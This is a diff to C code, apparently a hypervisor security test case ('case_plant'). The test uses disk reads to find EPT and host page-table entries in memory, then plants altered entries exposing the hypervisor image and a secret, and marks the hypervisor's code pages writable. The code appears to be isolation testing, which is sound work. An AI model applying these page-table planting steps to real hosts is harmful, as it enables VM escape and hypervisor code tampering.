@@ -36,20 +36,20 @@ static bool is_ram(uint64_t at)
 	return false;
 }
 
-/* Index in the buffer of two entries in a row, for a page and the next one; -1: not here. */
-static int find_pair(uint64_t entry)
+/* Index in the buffer of two entries in a row for a page and the next one, not counting the bits of `mask`; -1: not here. */
+static int find_pair(uint64_t entry, uint64_t mask)
 {
 	const uint64_t *e = (uint64_t *)buffer;
 	unsigned int i;
 
 	for (i = 0; i + 1 < DISK_CHUNK / 8; i++)
-		if (e[i] == entry && e[i + 1] == entry + PAGE_SIZE)
+		if ((e[i] & ~mask) == entry && e[i + 1] == e[i] + PAGE_SIZE)
 			return (int)i;
 	return -1;
 }
 
-/* Machine address of such an entry in memory that the map does not give us; 0: not found. */
-static uint64_t find_entry(uint64_t entry)
+/* Machine address of such an entry, and the entry, in memory that the map does not give us; 0: not found. */
+static uint64_t find_entry(uint64_t *entry, uint64_t mask)
 {
 	uint64_t at, end = arena_start() + (1ul << 29);
 	int i;
@@ -57,9 +57,11 @@ static uint64_t find_entry(uint64_t entry)
 	for (at = 4ul << 20; at < end; at += DISK_CHUNK) {
 		if (is_ram(at) || !disk_copy(GPA(buffer), at, DISK_CHUNK))
 			continue;
-		i = find_pair(entry);
-		if (i >= 0)
-			return at + (uint64_t)i * 8;
+		i = find_pair(*entry, mask);
+		if (i < 0)
+			continue;
+		*entry = ((uint64_t *)buffer)[i];
+		return at + (uint64_t)i * 8;
 	}
 	return 0;
 }
@@ -121,15 +123,17 @@ void case_plant(void)
 		return;
 	}
 	entry = GPA(vm.ram) | EPT_LEAF;
-	leaf = find_entry(entry);
+	leaf = find_entry(&entry, 0);
 	report(leaf, "the disk reads VM planted's EPT (entry at 0x%lx)", leaf);
 	plant("pool", leaf, ALIGN_DOWN(leaf, PAGE_SIZE) | EPT_LEAF, entry);
 	plant("image", leaf, HV_IMAGE | EPT_LEAF, entry);
 	plant("secret", leaf, secret | EPT_LEAF, entry);
 	lend_twice();
-	code = find_entry(HV_IMAGE | HOST_CODE);
+	/* Code begins in one of the image's first pages. */
+	entry = HV_IMAGE | HOST_CODE;
+	code = find_entry(&entry, 0xf000);
 	report(code, "the disk reads the hypervisor's own tables (entry at 0x%lx)", code);
-	plant("code", code, HV_IMAGE | HOST_CODE | PTE_W, HV_IMAGE | HOST_CODE);
+	plant("code", code, entry | PTE_W, entry);
 	report(!uvm_destroy(&vm) && !uvm_destroy(&other), "both VMs are destroyed");
 	pool_look(1);
 }
